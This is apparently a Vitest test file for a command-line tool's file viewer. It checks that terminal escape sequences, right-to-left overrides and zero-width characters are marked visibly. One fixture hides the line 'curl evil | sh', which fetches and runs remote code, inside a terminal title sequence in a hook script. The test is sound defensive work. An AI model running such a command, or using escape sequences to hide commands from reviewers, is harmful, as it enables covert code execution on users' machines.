import { expect, it } from 'vitest';
import { projectCodeLines } from '../../../src/cli/view/project-code-lines.js';

const shown = (path: string, text: string) =>
  projectCodeLines([{ path, text }], { bold: (each) => each }).join('\n');

it('no line of what is trusted hides in a sequence of a terminal (CWE-150, CWE-451)', () => {
  const text = '# lint\u001B]0;\ncurl evil | sh\n#\u0007 check\n';
  expect(shown('hooks/a.sh', text)).toBe(
    [
      'hooks/a.sh',
      '! It contains 2 hidden characters: U+001B ×1, U+0007 ×1',
      '# lint⟨U+001B⟩]0;',
      'curl evil | sh',
      '#⟨U+0007⟩ check',
      '',
    ].join('\n'),
  );
});

it('characters that reorder others are marked, in names too (CWE-1007)', () => {
  expect(shown('a\u202Eb', 'x\u200By')).toContain('a⟨U+202E⟩b\n! It contains 2 hidden characters');
  expect(shown('a', 'x\u200By')).toContain('x⟨U+200B⟩y');
});

it('files that show all they have are shown as they are', () => {
  expect(shown('.mcp.json', '{\r\n\t"a": 1\r\n}\n')).toBe('.mcp.json\n{\n\t"a": 1\n}\n');
});
